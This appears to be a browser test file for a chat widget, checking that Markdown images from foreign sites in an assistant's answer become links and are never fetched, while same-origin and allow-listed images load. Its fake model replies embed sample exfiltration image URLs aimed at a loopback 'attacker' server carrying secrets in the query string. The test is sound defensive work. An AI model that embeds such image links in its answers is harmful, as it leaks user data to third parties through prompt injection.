/**
 * Markdown images in the built-in client cannot leak: an answer that embeds an image from
 * another site (a prompt-injection exfiltration channel) shows a link instead, and the browser
 * never asks that site for anything; images from the app's own origin still show.
 */
import { deepEqual, equal, ok } from "node:assert/strict";
import { browserTest } from "./support/browser.ts";
import {
  gotoOffline,
  openChat,
  sendMessage,
  startChatApp,
  waitIdle,
} from "./support/chat_widget.ts";
import { testDatabase } from "./support/db.ts";

browserTest(
  "chat widget - a Markdown image from another site is a link, never fetched",
  async (browser) => {
    // The "attacker": a loopback server on another origin that records every request.
    const hits: string[] = [];
    const attacker = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
      hits.push(new URL(req.url).pathname + new URL(req.url).search);
      return new Response("GIF89a", { headers: { "content-type": "image/gif" } });
    });
    const leak = `http://127.0.0.1:${attacker.addr.port}/leak?secret=hunter2`;
    const chat = await startChatApp(await testDatabase("pglite"));
    try {
      const context = await browser.newContext();
      const page = await context.newPage();
      const errors: string[] = [];
      page.on("pageerror", (error) => errors.push(error.message));
      await gotoOffline(page, chat.app.url);
      await openChat(page);
      chat.fake.enqueue({
        text: `Here you go: ![logo](/favicon.svg) and ![chart](${leak}) — done.`,
      });
      await sendMessage(page, "Show me");
      await waitIdle(page);
      const body = page.locator(".ck-message-assistant .ck-markdown").last();
      await body.getByText("done.").waitFor();

      // The app's own image is shown and loaded.
      const own = body.locator("img");
      equal(await own.count(), 1, "only the same-origin image is an <img>");
      equal(await own.getAttribute("alt"), "logo");
      await page.waitForFunction(
        () => {
          const img = document.querySelector<HTMLImageElement>(".ck-markdown img");
          return img?.complete && img.naturalWidth > 0;
        },
        null,
        { timeout: 10_000 },
      );
      // The foreign one is a link the user may follow, not an image the browser fetches.
      const link = body.getByRole("link", { name: "chart" });
      equal(await link.getAttribute("href"), leak);
      ok(!(await body.innerHTML()).includes('<img src="http://127.0.0.1'), await body.innerHTML());
      // Give the browser every chance to fetch: a round trip to the app after rendering.
      await page.evaluate(() => fetch("/health").then((r) => r.status));
      deepEqual(hits, [], "the other site was never asked for anything");
      deepEqual(errors, []);
      await context.close();
    } finally {
      await chat.close();
      await attacker.shutdown();
    }
  },
);

/** A valid 1×1 GIF. */
const PIXEL = Uint8Array.from(
  atob("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"),
  (c) => c.charCodeAt(0),
);

browserTest(
  "chat widget - an image from an allowed domain is shown (CSP too); other sites stay links",
  async (browser) => {
    const record = (hits: string[]) => (req: Request) => {
      hits.push(new URL(req.url).pathname);
      return new Response(PIXEL, { headers: { "content-type": "image/gif" } });
    };
    const allowedHits: string[] = [];
    const otherHits: string[] = [];
    const images = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen() {} },
      record(allowedHits),
    );
    const other = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, record(otherHits));
    // The allowed host is named "localhost" (same machine, another host name than the page's).
    const allowed = `localhost:${images.addr.port}`;
    const chat = await startChatApp(await testDatabase("pglite"), {
      settings: { chatkit: { allowedImageDomains: [allowed] } },
    });
    try {
      const context = await browser.newContext();
      const page = await context.newPage();
      const blocked: string[] = [];
      page.on("console", (m) => {
        if (/Content Security Policy/i.test(m.text())) blocked.push(m.text());
      });
      await gotoOffline(page, chat.app.url);
      await openChat(page);
      chat.fake.enqueue({
        text: `A chart: ![chart](http://${allowed}/chart.gif) and ` +
          `![tracker](http://127.0.0.1:${other.addr.port}/t.gif?q=secret) — done.`,
      });
      await sendMessage(page, "Show me");
      await waitIdle(page);
      const body = page.locator(".ck-message-assistant .ck-markdown").last();
      await body.getByText("done.").waitFor();

      const img = body.locator("img");
      equal(await img.count(), 1, "only the allowed domain's image is an <img>");
      equal(await img.getAttribute("alt"), "chart");
      // It loads: the page's CSP lets the allowed domain through.
      await page.waitForFunction(
        () => {
          const el = document.querySelector<HTMLImageElement>(".ck-markdown img");
          return el?.complete && el.naturalWidth > 0;
        },
        null,
        { timeout: 10_000 },
      );
      deepEqual(allowedHits, ["/chart.gif"]);
      const link = body.getByRole("link", { name: "tracker" });
      equal(await link.getAttribute("href"), `http://127.0.0.1:${other.addr.port}/t.gif?q=secret`);
      await page.evaluate(() => fetch("/health").then((r) => r.status));
      deepEqual(otherHits, [], "the other site was never asked for anything");
      deepEqual(blocked, []);
      await context.close();
    } finally {
      await chat.close();
      await images.shutdown();
      await other.shutdown();
    }
  },
);
